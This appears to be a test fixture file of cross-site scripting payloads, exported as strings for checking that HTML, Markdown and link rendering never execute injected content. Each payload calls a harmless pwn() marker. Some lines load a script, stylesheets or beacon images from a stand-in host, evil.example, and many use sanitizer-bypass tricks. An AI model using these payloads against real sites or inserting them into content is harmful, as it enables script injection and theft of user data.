/** Texts that run something where a page takes them for HTML, a link or a style. What they run is `pwn()`. */

const HTML = [
  '<script>pwn()</script>',
  '<script src="//evil.example/x.js"></script>',
  '<img src=x onerror=pwn()>',
  '<img src="x" onerror="pwn()" / >',
  '<IMG """><SCRIPT>pwn()</SCRIPT>">',
  '<img src=`x`onerror=pwn()>',
  '<img/src="x"/onerror=pwn()//',
  '<svg onload=pwn()>',
  '<svg><script>pwn()</script></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:pwn()"><text x="9" y="9">click</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwn()</script></svg>#x"></use></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:pwn()">click</maction></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwn() src>">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<table><td><svg><desc><td><style><a title="</style><img src=x onerror=pwn()>">',
  '<a href="javascript:pwn()">click</a>',
  '<a href="jav&#x09;ascript:pwn()">click</a>',
  '<a href=" &#14; javascript:pwn()">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;pwn()">click</a>',
  '<a href="data:text/html,<script>opener.pwn()</script>">click</a>',
  '<a href=# onclick=pwn() onmouseover=pwn() onfocus=pwn() autofocus tabindex=1>click</a>',
  '<iframe src="javascript:parent.pwn()"></iframe>',
  '<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
  '<object data="javascript:pwn()"></object><embed src="javascript:pwn()">',
  '<form action="javascript:pwn()"><input type=submit><button formaction="javascript:pwn()">click</button></form>',
  '<input autofocus onfocus=pwn()><select autofocus onfocus=pwn()><textarea autofocus onfocus=pwn()>',
  '<details open ontoggle=pwn()><summary>more</summary></details>',
  '<video><source onerror=pwn()></video><audio src=x onerror=pwn()>',
  '<body onload=pwn()><marquee onstart=pwn()>',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x.png) }</style>',
  '<div style="background: url(https://evil.example/x.png); position: fixed; inset: 0">over everything</div>',
  '<img src="https://evil.example/x.png"><img srcset="https://evil.example/x.png 1x"><picture><source srcset="https://evil.example/x.png"><img></picture>',
  '<video poster="https://evil.example/x.png"></video><input type=image src="https://evil.example/x.png"><table background="https://evil.example/x.png">',
  '<template><img src=x onerror=pwn()></template><x-pwn is="script"></x-pwn><slot name=x></slot>',
  '<a id=body name=cookie></a><form id=createElement><input name=attributes></form>',
  '"><img src=x onerror=pwn()>',
  "'-pwn()-'",
  '${pwn()} {{pwn()}} <%= pwn() %> #{pwn()}',
  '</textarea></title></style></script><img src=x onerror=pwn()>',
  '<!--><img src=x onerror=pwn()>-->',
  '<![CDATA[<img src=x onerror=pwn()>]]>',
];

const MARKDOWN = [
  '[click](javascript:pwn())',
  '[click](JaVaScRiPt:pwn())',
  '[click](java\nscript:pwn())',
  '[click](&#106;avascript:pwn())',
  '[click](javascript&colon;pwn())',
  '[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduKCk8L3NjcmlwdD4=)',
  '[click](vbscript:pwn())',
  '[click](<javascript:pwn()> "title\\" onmouseover=\\"pwn()")',
  '![x](x" onerror="pwn())',
  '![x](https://evil.example/x.png)',
  '![x](data:image/svg+xml,<svg onload=pwn()>)',
  '<javascript:pwn()>',
  '[click][ref]\n\n[ref]: javascript:pwn() "x"',
  '```js" onmouseover="pwn()\n</code><img src=x onerror=pwn()>\n```',
  '```html\n<img src=x onerror=pwn()><script>pwn()</script>\n```',
  '`<img src=x onerror=pwn()>`',
  '$\\href{javascript:pwn()}{click}$ $\\htmlData{x=y}{a}$ $\\includegraphics{https://evil.example/x.png}$ $<img src=x onerror=pwn()>$',
  '$$\\url{javascript:pwn()}\\text{<img src=x onerror=pwn()>}$$',
  '<details ontoggle=pwn()>\n<summary onclick=pwn()><img src=x onerror=pwn()></summary>\n\n<script>pwn()</script>\n\n[click](javascript:pwn())\n\n</details>',
  '| <img src=x onerror=pwn()> |\n|---|\n| [click](javascript:pwn()) |',
  '\uE1000\uE101 \uE100<img src=x onerror=pwn()>\uE101',
];

const CLICKS = '[click](chatkit-link://x" onclick="pwn())';

/** All of them in one text, each a paragraph of its own. */
export const INJECTED = [...HTML, ...MARKDOWN, CLICKS].join('\n\n');

/** One text each, for places that hold a line. */
export const INJECTIONS = [...HTML, ...MARKDOWN, CLICKS].map((text) => text.replace(/\n+/g, ' '));

/** For places that hold an address. */
export const ADDRESSES = [
  'javascript:pwn()', ' javascript:pwn()', 'java\tscript:pwn()', 'JAVASCRIPT:pwn()', '\u0001javascript:pwn()', 'javascript://%0Apwn()', 'data:text/html,<script>pwn()</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn()"/>', 'vbscript:pwn()', 'blob:null/x', 'https://evil.example/x.png', '//evil.example/x.png', '"><img src=x onerror=pwn()>',
];
